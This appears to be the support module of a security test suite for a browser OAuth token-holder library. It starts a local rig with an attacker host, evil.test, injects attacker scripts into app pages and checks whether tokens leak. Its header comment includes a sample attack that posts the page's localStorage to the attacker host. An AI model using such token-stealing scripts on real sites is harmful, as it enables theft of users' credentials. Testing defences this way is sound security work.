// The rig: an app that uses the packed package, its authorization server, its API, and an attacker, on hosts with TLS.
//
//   https://app.rig.test   the app         (tests/browser's pages and holders, from the packed package)
//   https://auth.rig.test  in the way of running "own": the origin that the holder has for itself
//   https://as.rig.test    the real authorization server
//   https://api.rig.test   the API         (all of these are one site, as in many a deployment)
//   https://evil.test      the attacker, with any other host: another site, which records whatever arrives
//
// How to write an attack, in a file `tests/attacks/<subject>.test.mjs`:
//
//   import { attack } from "./support/attack.mjs";
//
//   attack(
//     { id: "T1", threat: "S1", title: "storage sweep finds no token (STORE-1)", when: ["late", "early"], outcome: "stopped" },
//     async (rig, { mode, when }) => {
//       const page = await rig.signedInWith(sweep, { deep: true });
//       await rig.arrived(page);
//       return rig.verdict("access token", "refresh token");
//     },
//   );
//
//   /** Runs in the page: the attacker's tools come first (scripts/evil.mjs), then what the test gives. */
//   async function sweep(evil, { deep }) {
//     await evil.post(Object.entries(localStorage));
//   }
//
// `outcome` is a word for all ways of running, or an object by `mode` or `"mode, when"`, or `butOwn(word)`. What `work` returns is "stopped",
// "works" or "limited", or `[word, note]` with a few words that go into docs/security/results.md: nothing in a note may
// differ from run to run. A `title` with ids of requirements at its end counts for docs/conformance.md.
//
// The rig's options are attack()'s `rig`, as an object or a function of `{ mode, when }` (see `startRig`). `share: "name"`
// lets attacks of a file that leave it signed in use one rig: each begins with `rig.secrets()` as they are then, and
// `rig.sinceNow()` makes the attacker forget what it has.

import { startAuthorizationServer } from "../../../www/server/authorization-server.mjs";
import { startResourceServer } from "../../../www/server/resource-server.mjs";
import { startAppServer } from "../../browser/support/app-server.mjs";
import { newContext } from "../../browser/support/browser.mjs";
import { hurry } from "../../browser/support/sign-in.mjs";
import { scope } from "../../browser/support/stage.mjs";
import { makeEvil } from "../scripts/evil.mjs";
import { brokenFiles } from "./broken.mjs";
import { startEvil } from "./evil.mjs";
import { startFront } from "./front.mjs";
import { startHome } from "./home.mjs";
import { request } from "./outside.mjs";
import { scan, summaryOf } from "./scanner.mjs";
import { followSecrets } from "./secrets.mjs";
import { waysOf } from "./signing-in.mjs";

const hosts = { app: "app.rig.test", auth: "auth.rig.test", as: "as.rig.test", api: "api.rig.test", evil: "evil.test" };

/**
 * Starts a rig for test `t`, which takes it down. `as` and `api` have options of the authorization server and of the API,
 * `config` overrides members of the holder's configuration or is a function of the rig that answers them, `headers` go
 * with every answer of the app's origin, `policy` is its Content-Security-Policy (none: a script is in), `context` has
 * options of the browser's profile, or makes one, which with `whole` is the whole browser's, and `home` is startHome's. What else is given goes to the app's server.
 */
export async function startRig(t, options = {}) {
  const {
    mode = "shared",
    when = "late",
    as: asOptions,
    api: apiOptions,
    config = {},
    home: place,
    context: profile,
    whole,
    ...more
  } = options;
  const broken = await brokenFiles();
  const front = await startFront();
  const origins = Object.fromEntries(Object.entries(hosts).map(([name, host]) => [name, front.originOf(host)]));
  const as = await startAuthorizationServer({ accessTokenTtl: 600, publicOrigin: origins.as, ...asOptions });
  // It stands behind the front, which says by what name it was called.
  as.provider.proxy = true;
  const shown = { mode, holder: "/holder.js", config: "null", policy: "", ...more, files: { ...more.files, ...broken } };
  const app = await startAppServer(shown);
  const home = await startHome({ mode, front, origins, shown, files: broken, ...place });
  const callers = { origins: [home.origin] };
  const api = await startResourceServer({ authorizationServer: as, publicOrigin: origins.api, ...callers, ...apiOptions });
  const evil = await startEvil();
  const behind = (port) => `http://127.0.0.1:${port}`;
  Object.assign(front.routes, { [hosts.app]: app.origin, [hosts.as]: as.origin, [hosts.api]: behind(api.port), "*": behind(evil.port) });
  const context = typeof profile === "function" ? await profile() : await newContext({ ...profile, whole });
  t.after(async () => {
    // The browser may be gone already, where the rig was the whole file's.
    await context.close().catch(() => {});
    await front.close();
    await Promise.all([app, home, as, api, evil].map((one) => one.close()));
  });
  hurry(context, as);
  as.allow({ redirectUris: [home.callback], postLogoutRedirectUris: [home.bye], ...callers });
  const rig = new Rig({
    mode,
    when,
    front,
    origins,
    as,
    api,
    evil,
    home,
    context,
    shown,
    app: { origin: origins.app, plainOrigin: app.origin },
  });
  rig.configure(typeof config === "function" ? config(rig) : config);
  return rig;
}

class Rig {
  #followed;
  #ways;

  constructor(parts) {
    Object.assign(this, parts);
    this.#ways = waysOf(this.mode);
    this.#followed = followSecrets(this.as.provider, { requests: this.mode === "own" });
    this.console = [];
    this.context.on("console", (message) => this.console.push(message.text()));
    this.context.on("weberror", (event) => this.console.push(String(event.error().stack)));
  }

  /** The configuration that the holder's file has from now on. */
  configure(overrides) {
    const config = {
      issuer: this.as.issuer,
      clientId: "tokenkeep-demo",
      redirectUri: this.home.callback,
      scope,
      resourceServers: [`${this.origins.api}/v1/`],
      // A busy machine must not run into a limit that is not the subject.
      requestTimeout: 60_000,
      queueTimeout: 60_000,
      ...overrides,
    };
    this.shown.config = JSON.stringify(config);
  }

  /** The URL of the API's `/v1/<path>`. */
  v1(path) {
    return `${this.origins.api}/v1/${path}`;
  }

  /** A new tab with a page of the app's origin; `/bare.html` is one without the app. */
  async open(path = "/") {
    const page = await this.context.newPage();
    await page.goto(this.origins.app + path);
    return page;
  }

  /** A new tab of the app, signed in; the authorization server asks nothing. */
  async signedIn() {
    const page = await this.open();
    const session = await this.signIn(page);
    if (!session) throw new Error("signed in, and no session");
    return page;
  }

  /** Signs in, as whom the authorization server takes for granted. Resolves to what `resume()` says. */
  async signIn(page, options) {
    await this.arrive(page, options);
    return page.evaluate(() => app.auth.resume());
  }

  /** As `signIn`, up to the moment when the page of the app has loaded and nothing is finished yet. */
  arrive(page, options) {
    return this.#ways.arrive(page, options);
  }

  /** Passes the pages in a popup that signs in; it closes itself. */
  finishIn(popup) {
    return this.#ways.finish(popup);
  }

  /** Has `script(evil, given)` run in every document of the app's origin, the attacker's reach, before anything else. */
  plant(script, given) {
    const source = `if (location.origin === ${JSON.stringify(this.origins.app)}) { ${this.#source(script, given)} }`;
    return this.context.addInitScript({ content: source });
  }

  /** Runs `script(evil, given)` in `page` now; resolves to what it returns, which must be plain data. */
  inject(page, script, given) {
    return page.evaluate(this.#source(script, given));
  }

  /** A page that is signed in, in which the script ran at the rig's time: early or late. */
  async signedInWith(script, given) {
    if (this.when === "early") await this.plant(script, given);
    const page = await this.signedIn();
    if (this.when !== "early") await this.inject(page, script, given);
    return page;
  }

  #source(script, given) {
    const { mode, holder } = this.shown;
    const evil = `(globalThis.evil ??= (${makeEvil})(${JSON.stringify(this.origins.evil)}, ${JSON.stringify({ mode, holder })}))`;
    return `(${script})(${evil}, ${JSON.stringify(given) ?? "undefined"})`;
  }

  /** Resolves when all that scripts in `page` posted so far has reached the attacker. */
  arrived(page) {
    return page.evaluate(() => globalThis.evil?.settled().then(() => {}));
  }

  /** Every canary so far, as `{ name, value }`: access, refresh and ID tokens, codes, verifiers, and what was added. */
  secrets(...names) {
    const all = this.#followed.secrets;
    return names.length ? all.filter(({ name }) => names.includes(name)) : [...all];
  }

  addSecret(name, value) {
    this.#followed.add(name, value);
  }

  /** What `text` has of the secrets, or of those with the given names, in short. */
  found(text, ...names) {
    return summaryOf(scan(text, this.secrets(...names)));
  }

  /** What reached the attacker of the secrets, or of those with the given names, in short. */
  stolen(...names) {
    return this.found(this.evil.text(), ...names);
  }

  /**
   * "stopped" if none of these secrets reached the attacker, or `["works", what did]`. Each must be there to be stolen. With
   * the holder on an origin of its own the app's server must not have seen one either.
   */
  verdict(...names) {
    const missing = names.filter((name) => this.secrets(name).length === 0);
    if (missing.length) throw new Error(`nothing was at stake: no ${missing.join(", no ")}`);
    const seen = this.mode === "own" ? this.found(this.front.passed(hosts.app)) : [];
    const kinds = new Set([...this.stolen(...names), ...seen].map((one) => one.replace(/ \(.*/, "")));
    return kinds.size === 0 ? "stopped" : ["works", [...kinds].sort().join(", ")];
  }

  /** The attacker forgets what it has. */
  sinceNow() {
    this.evil.requests.length = 0;
  }

  /** A request from the attacker's own machine: no browser, no CORS. Resolves to `{ status, headers, text }`. */
  fromOutside(url, init) {
    return request(this.front.port, url, init);
  }
}
